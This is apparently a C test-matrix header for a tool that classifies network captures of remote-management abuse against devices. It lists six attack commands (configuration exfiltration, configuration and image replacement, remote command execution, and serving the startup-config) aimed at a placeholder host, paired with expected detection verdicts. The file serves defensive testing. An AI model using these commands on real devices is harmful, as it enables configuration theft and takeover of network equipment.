/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Every verb, and everything that can become of it. Lines are those of
 * situations.h; $E stands for the ends of the transfer, $F for the file's name
 * and $W for its way and size, $O for the same file between other ends.
 */
#ifndef SMINI_TEST_MATRIX_H
#define SMINI_TEST_MATRIX_H

enum { VERBS = 6 };

struct verb {
    const char *name;
    const char *command; /* without the scheme of its URL, which stands for $S */
    const char *verdict;
    const char *ends, *other_ends, *file, *way;
};

static const struct verb verbs[VERBS] = {
    {"steal", "backup_request config_exfiltration c=copy_flash:/config.text_$S://198.51.100.7/d.conf", "config-exfiltration",
     "D>A", "D>B", "d.conf", "s 700"},
    {"replace config", "download_config config_replacement u=$S://198.51.100.7/my.conf", "config-replacement", "D>A", "D>B",
     "my.conf", "c 700"},
    {"replace image", "download_image image_replacement u=$S://198.51.100.7/i.tar", "image-replacement", "D>A", "E>A",
     "i.tar", "c 9000 y=tar"},
    {"execute", "execute command_execution u=$S://198.51.100.7/e.txt", "command-execution", "D>A", "D>B", "e.txt", "c 30"},
    {"copy in", "backup_request config_replacement c=copy_$S://198.51.100.7/x.conf_running-config", "config-replacement",
     "D>A", "E>A", "x.conf", "c 700"},
    {"serve", "backup_request config_exfiltration c=configure_tftp-server_nvram:startup-config", "config-exfiltration",
     "A>D", "A>E", "startup-config", "c 700"},
};

#define SAME(outcome) {outcome, outcome, outcome, outcome, outcome, outcome}

struct fate {
    const char *name;
    const char *scheme; /* of the command's URL */
    const char *seen;   /* after the command */
    const char *outcomes[VERBS];
    const char *gist; /* stands in a reason; NULL: no reason but the command */
};

static const struct fate fates[] = {
    {"ignored", "tftp", "f 10 2 A>D a 500 0\n", SAME("attempted"), NULL},
    {"connection closed by the device without a word", "tftp", "f 10 2 A>D ac 500 0\n", SAME("attempted"), NULL},
    {"connection refused", "tftp", "f 10 2 A>D r 500 0\n", SAME("failed"), NULL},
    {"the device's side not captured", "tftp", "f 10 2 A>D s 500 0\n", SAME("unknown"), NULL},
    {"the capture ended", "tftp", "f 10 2 A>D au 500 0\n", SAME("unknown"), NULL},
    {"the device's bytes were lost", "tftp", "f 10 2 A>D a 500 0 20\n", SAME("unknown"), NULL},
    {"acknowledged", "tftp", "m 11 2 A<D status - s=1\nf 11 2 A>D a 500 20\n", SAME("answered"), "the device answered with status"},
    {"the backup reported", "tftp", "f 10 2 A>D a 500 0\nm 40 3 D>A backup_response - s=1\nf 41 3 D>A a 92 0\n",
     {"succeeded", "attempted", "attempted", "attempted", "succeeded", "succeeded"}, NULL},
    {"the backup reported as something unknown", "tftp",
     "f 10 2 A>D a 500 0\nm 40 3 D>A backup_response - s=7\nf 41 3 D>A a 92 0\n",
     {"answered", "attempted", "attempted", "attempted", "answered", "answered"}, NULL},
    {"a call-back that was refused", "tftp", "f 10 2 A>D a 500 0\nf 40 3 D>A r 0 0\n", SAME("attempted"), NULL},
    {"the file refused", "tftp", "f 10 2 A>D a 500 0\nt 20 5 $E refused $F c 0\n", SAME("failed"), ": refused"},
    {"acknowledged, and the file refused", "tftp",
     "m 11 2 A<D status - s=1\nf 11 2 A>D a 500 20\nt 20 5 $E refused $F c 0\n", SAME("failed"), ": refused"},
    {"the file moved", "tftp", "f 10 2 A>D a 500 0\nt 20 5 $E closed $F $W\n", SAME("succeeded"), ", whole"},
    {"the file moved, over HTTP", "http", "f 10 2 A>D a 500 0\nt 20 5 $E closed $F $W p=http\n",
     {"succeeded", "succeeded", "succeeded", "succeeded", "succeeded", "attempted"}, NULL},
    {"the file moved, over FTP", "ftp", "f 10 2 A>D a 500 0\nt 20 5 $E closed $F $W p=ftp\n",
     {"succeeded", "succeeded", "succeeded", "succeeded", "succeeded", "attempted"}, NULL},
    {"the file moved, blocks of it not captured", "tftp", "f 10 2 A>D a 500 0\nt 20 5 $E closed $F $W g=512\n",
     SAME("succeeded"), "512 bytes more are not in the capture"},
    {"the file moved, the command's connection half captured", "tftp", "f 10 2 A>D s 500 0\nt 20 5 $E closed $F $W\n",
     SAME("succeeded"), ", whole"},
    {"the file moved, the last word not seen", "tftp", "f 10 2 A>D a 500 0\nt 20 5 $E unconfirmed $F $W\n",
     {"succeeded", "unknown", "unknown", "unknown", "unknown", "succeeded"}, NULL},
    {"the file incomplete", "tftp", "f 10 2 A>D a 500 0\nt 20 5 $E truncated $F $W\n", SAME("unknown"),
     "its end was not seen"},
    {"the file asked for, nothing of it captured", "tftp", "f 10 2 A>D a 500 0\nt 20 5 $E truncated $F c 0\n",
     SAME("unknown"), "what came of it was not seen"},
    {"the file refused at first", "tftp", "f 10 2 A>D a 500 0\nt 20 5 $E refused $F c 0\nt 30 6 $E closed $F $W\n",
     SAME("succeeded"), ", whole"},
    {"sealed, over SCP", "scp", "f 10 2 A>D a 500 0\nt 20 5 D>A sealed - s 4242 p=sealed\n",
     {"unknown", "unknown", "unknown", "unknown", "unknown", "attempted"}, NULL},
    {"sealed, over HTTPS", "https", "f 10 2 A>D a 500 0\nt 20 5 D>A sealed - c 4242 p=sealed\n",
     {"unknown", "unknown", "unknown", "unknown", "unknown", "attempted"}, NULL},
    {"the file moved between other ends", "tftp", "f 10 2 A>D a 500 0\nt 20 5 $O closed $F $W\n",
     {"unknown", "unknown", "unknown", "unknown", "unknown", "attempted"}, NULL},
    {"the file moved before the command", "tftp", "f 10 2 A>D a 500 0\nt 5 5 $E closed $F $W\n", SAME("attempted"),
     "moved before it was commanded"},
    {"the file moved hours later", "tftp", "f 10 2 A>D a 500 0\nt 9000 5 $E closed $F $W\n", SAME("attempted"), NULL},
    {"another file moved", "tftp", "f 10 2 A>D a 500 0\nt 20 5 $E closed other $W\n", SAME("attempted"), NULL},
    {"the command again and again, the file moved once", "tftp",
     "m 12 2 $C\nm 14 2 $C\nf 14 2 A>D a 1500 0\nt 20 5 $E closed $F $W\n", SAME("succeeded"), ", whole"},
    {"the command again on connections of its own", "tftp",
     "f 10 2 A>D a 500 0\nm 70 3 $C\nf 70 3 A>D a 500 0\nm 130 4 $C\nf 130 4 A>D r 500 0\n", SAME("attempted"), NULL},
};

#endif
